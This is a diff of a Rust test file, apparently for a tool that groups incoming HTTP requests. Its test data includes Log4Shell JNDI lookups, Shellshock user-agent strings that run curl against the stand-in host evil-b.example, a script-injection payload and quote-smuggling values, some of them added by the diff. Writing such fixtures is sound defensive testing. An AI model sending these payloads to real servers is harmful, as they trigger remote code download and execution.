@@ -51,6 +51,8 @@ fn where_what_a_request_wants_run_leads_is_news_though_it_was_refused() {
         request(&look_up("198.51.100.9:1389"), "curl"),
         request("/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil-b.example%2Fa%7D", "curl"),
         request("/", "${${lower:j}ndi:ldap://evil-b.example/a}"),
+        request("/?() {", "() { :; }; curl http://evil-b.example/a"),
+        request(&format!("/?{}{}", "a".repeat(9_000), look_up("evil-b.example")), "curl"),
         request("/", "() { :; }; /bin/bash -c 'curl http://evil-b.example/a'"),
     ] {
         assert!(!folds(&seen, &other), "{other}");
@@ -61,6 +63,8 @@ fn where_what_a_request_wants_run_leads_is_news_though_it_was_refused() {
         request(&look_up("q8zt1xkp.evil-a.example"), "curl"),
         request("/?x=${y}", "curl"),
         request("/?to=http://evil-b.example/", "curl"),
+        request("/?q=(function() {alert(1)})()", "x\" \"http://evil-b.example"),
+        request("/?q=${x", "x\" \"http://evil-b.example"),
     ] {
         assert!(folds(&seen, &same), "{same}");
     }
